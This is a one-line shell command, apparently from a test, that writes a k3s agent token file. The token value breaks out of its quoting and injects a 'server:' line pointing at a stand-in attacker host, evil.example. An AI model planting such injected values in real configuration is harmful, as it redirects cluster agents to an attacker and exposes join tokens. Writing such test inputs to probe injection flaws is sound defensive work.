printf '0123456789abcdef"\n  server: https://evil.example:6443\n' >profiles/access/k3s-agent-token
